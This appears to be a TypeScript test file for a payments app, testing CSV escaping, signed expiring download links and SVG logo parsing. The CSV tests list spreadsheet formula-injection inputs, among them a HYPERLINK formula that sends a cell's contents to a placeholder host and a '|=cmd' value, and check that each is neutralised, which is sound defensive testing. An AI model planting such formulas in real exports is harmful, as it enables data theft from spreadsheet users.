// @vitest-environment node
import { listBrandIds, loadBrand } from '@paydeck/brand-config/node';
import { toCsv } from './csv.ts';
import { fileLink, LINK_LIFETIME_MS, readFileLink } from './links.ts';
import { logoElements, rectPath } from './svg-logo.ts';

describe('csv', () => {
  test.each([
    ['plain', 'plain'],
    ['with, comma', '"with, comma"'],
    ['with "quotes"', '"with ""quotes"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['=SUM(A1)', "'=SUM(A1)"],
    ['+1 555', "'+1 555"],
    ['-negative text', "'-negative text"],
    ['@handle', "'@handle"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', "'＝1+1"],
    ['＠handle', "'＠handle"],
    ['a=b', 'a=b'],
    ['', ''],
    // After a list separator (review L6: a spreadsheet whose locale splits on ";" makes the rest a cell of its own).
    [';=HYPERLINK("http://x/?"&A1;"open")', `"';=HYPERLINK(""http://x/?""&A1;""open"")"`],
    ['a;=1+1', "'a;=1+1"],
    ['a; +1', "'a; +1"],
    ['a;\t-1+2', "'a;\t-1+2"],
    ['|=cmd', "'|=cmd"],
    ['a|@SUM(A1)', "'a|@SUM(A1)"],
    ['x,=1', `"'x,=1"`],
    ['Rent, -5 off', `"'Rent, -5 off"`],
    ['a；＝1', "'a；＝1"],
    ['note\n=1+1', `"'note\n=1+1"`],
    // After leading spaces (a spreadsheet trims them).
    [' =1+1', "' =1+1"],
    ['\u00a0+1', "'\u00a0+1"],
    ['\u200b@x', "'\u200b@x"],
    // Not a formula anywhere.
    ['Rent, November', '"Rent, November"'],
    ['5% off; thanks', '5% off; thanks'],
    ['a|b', 'a|b'],
    ['e-mail me', 'e-mail me'],
  ])('text %j becomes %j', (text, cell) => {
    expect(toCsv(['h'], [[text]])).toBe(`h\r\n${cell}\r\n`);
  });

  test('amounts are written as they are, a minus sign included', () => {
    expect(toCsv(['amount'], [[{ amount: '-12.50' }], [{ amount: '3.00' }]])).toBe('amount\r\n-12.50\r\n3.00\r\n');
  });

  test.each([
    ['-0.12345678', '-0.12345678'],
    ['1000000.00', '1000000.00'],
    ['-1+2', "'-1+2"],
    ['=1', "'=1"],
  ])('an amount cell %j is written %j (only a plain decimal is a number)', (amount, cell) => {
    expect(toCsv(['amount'], [[{ amount }]])).toBe(`amount\r\n${cell}\r\n`);
  });

  test('numbers as they are; a header neutralised too; a byte order mark when asked', () => {
    expect(toCsv(['=id', 'n'], [[7, 'x']], { bom: true })).toBe("\uFEFF'=id,n\r\n7,x\r\n");
  });
});

describe('download links', () => {
  const now = new Date('2026-11-21T10:00:00Z');
  const request = { k: 'sample', type: 'wire' } as const;

  test('a link reads back until it expires', () => {
    const token = fileLink(request, now).split('/').at(-1) as string;
    expect(readFileLink(token, now)).toEqual(request);
    expect(readFileLink(token, new Date(now.getTime() + LINK_LIFETIME_MS + 1))).toBe('expired');
  });

  test('a changed payload or signature is invalid', () => {
    const token = fileLink(request, now).split('/').at(-1) as string;
    const [body, signature] = token.split('.') as [string, string];
    const forged = Buffer.from(
      JSON.stringify({ ...request, type: 'eft', exp: now.getTime() + LINK_LIFETIME_MS }),
    ).toString('base64url');
    expect(readFileLink(`${forged}.${signature}`, now)).toBe('invalid');
    expect(readFileLink(`${body}.${signature.slice(1)}x`, now)).toBe('invalid');
    expect(readFileLink('nonsense', now)).toBe('invalid');
  });
});

describe('brand logos in PDFs', () => {
  test.each(listBrandIds())('the %s logo is read: a viewBox, shapes and its words', (id) => {
    const { viewBox, elements } = logoElements(loadBrand(id).logoSvg);
    expect(viewBox.width).toBeGreaterThan(0);
    expect(viewBox.height).toBe(60);
    expect(elements.some((e) => e.name === 'text' && e.text.length > 0)).toBe(true);
    expect(elements.some((e) => e.name !== 'text')).toBe(true);
    for (const element of elements.filter((e) => e.name === 'text'))
      expect(element.attributes['font-size']).toBeDefined();
  });

  test.each([
    [{ x: '0', y: '0', width: '10', height: '4' }, 'M 0.000 0.000 L 10.000 0.000'],
    [{ x: '0', y: '0', width: '10', height: '4', rx: '2' }, 'M 2.000 0.000 L 8.000 0.000 Q 10.000 0.000 10.000 2.000'],
    [{ x: '0', y: '0', width: '2', height: '2', transform: 'rotate(90 1 1)' }, 'M 2.000 0.000 L 2.000 2.000'],
  ])('rect %o starts %s', (attributes, start) => {
    expect(rectPath(attributes).startsWith(start)).toBe(true);
  });
});
